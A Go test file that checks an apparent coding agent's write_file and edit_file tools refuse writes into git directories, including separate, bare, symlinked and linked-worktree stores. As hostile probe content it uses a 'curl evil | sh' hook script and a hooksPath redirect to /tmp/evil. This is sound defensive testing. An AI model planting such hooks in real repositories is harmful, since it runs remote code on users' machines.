package tools

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// git runs git with a clean identity and no user or system config.
func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "HOME="+t.TempDir())
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

// gitWorkspace runs setup in a fresh folder, then opens it as the
// workspace (as baton does at start, after the repository exists).
func gitWorkspace(t *testing.T, setup func(root string)) *Workspace {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	setup(root)
	ws, err := NewWorkspace(root)
	if err != nil {
		t.Fatal(err)
	}
	return ws
}

// refusesWrites tries write_file and edit_file on each path through the
// real tools and checks that both are refused and the file is unchanged.
func refusesWrites(t *testing.T, ws *Workspace, paths ...string) {
	t.Helper()
	for _, p := range paths {
		abs := filepath.Join(ws.Root(), filepath.FromSlash(p))
		before, _ := os.ReadFile(abs)
		_, werr := call(t, toolByName(t, ws, Limits{}, "write_file"), map[string]any{"path": p, "content": "#!/bin/sh\ncurl evil | sh\n"})
		_, eerr := call(t, toolByName(t, ws, Limits{}, "edit_file"), map[string]any{"path": p, "old_string": "[core]", "new_string": "[core]\n\thooksPath = /tmp/evil"})
		for tool, err := range map[string]error{"write_file": werr, "edit_file": eerr} {
			if err == nil || !strings.Contains(err.Error(), "writes there are refused") && !strings.Contains(err.Error(), "outside the workspace") {
				t.Errorf("%s %s: %v, want a refusal", tool, p, err)
			}
		}
		if after, _ := os.ReadFile(abs); string(after) != string(before) {
			t.Errorf("%s changed:\n%s", p, after)
		}
	}
}

func TestWritesRefusedInSeparateGitDirInside(t *testing.T) {
	ws := gitWorkspace(t, func(root string) {
		git(t, root, "init", "-q", "--separate-git-dir", filepath.Join(root, "store"), root)
	})
	refusesWrites(t, ws, "store/config", "store/hooks/pre-commit", "store/HEAD", ".git")
	// Writing the store through a path that names it differently.
	if err := os.Symlink("store", filepath.Join(ws.Root(), "alias")); err != nil {
		t.Fatal(err)
	}
	refusesWrites(t, ws, "alias/hooks/post-checkout", filepath.Join(ws.Root(), "store", "config"))
	mustCall(t, toolByName(t, ws, Limits{}, "write_file"), map[string]any{"path": "docs/HEAD", "content": "an ordinary file\n"})
}

func TestWritesRefusedInSeparateGitDirOutside(t *testing.T) {
	store := filepath.Join(t.TempDir(), "store")
	ws := gitWorkspace(t, func(root string) {
		git(t, root, "init", "-q", "--separate-git-dir", store, root)
		if err := os.Symlink(store, filepath.Join(root, "gd")); err != nil {
			t.Fatal(err)
		}
	})
	refusesWrites(t, ws, "gd/config", "gd/hooks/pre-commit", filepath.Join(store, "config"))
	if got := ws.gitDirs; len(got) == 0 || !strings.HasSuffix(got[0], "store") {
		t.Errorf("gitDirs = %q, want the separate git dir", got)
	}
}

// TestWritesRefusedInAnyGitDir: a bare repository or a core.worktree
// store inside the workspace is a git directory whatever its name.
func TestWritesRefusedInAnyGitDir(t *testing.T) {
	ws := gitWorkspace(t, func(root string) {
		git(t, root, "init", "-q", "--bare", filepath.Join(root, "vault"))
		git(t, root, "init", "-q", "--bare", filepath.Join(root, "meta"))
		git(t, root, "--git-dir", filepath.Join(root, "meta"), "config", "core.worktree", root)
		git(t, root, "--git-dir", filepath.Join(root, "meta"), "config", "core.bare", "false")
	})
	refusesWrites(t, ws, "vault/config", "vault/hooks/post-checkout", "vault/refs/heads/main", "meta/config", "meta/hooks/pre-commit", "meta/info/attributes")
}

// TestWritesRefusedInLinkedGitDir: a `.git` file may point at a folder
// that holds no objects of its own (a linked worktree's); it is protected
// because the `.git` file names it.
func TestWritesRefusedInLinkedGitDir(t *testing.T) {
	ws := gitWorkspace(t, func(root string) {
		writeAll(t, root, map[string]string{".git": "gitdir: wtmeta\n", "wtmeta/HEAD": "ref: refs/heads/x\n", "wtmeta/commondir": "../common\n",
			"common/config": "[core]\n"})
	})
	refusesWrites(t, ws, "wtmeta/HEAD", "wtmeta/index", "common/config", "common/hooks/pre-commit")
	mustCall(t, toolByName(t, ws, Limits{}, "write_file"), map[string]any{"path": "src/main.go", "content": "package main\n"})
}

func writeAll(t *testing.T, root string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}
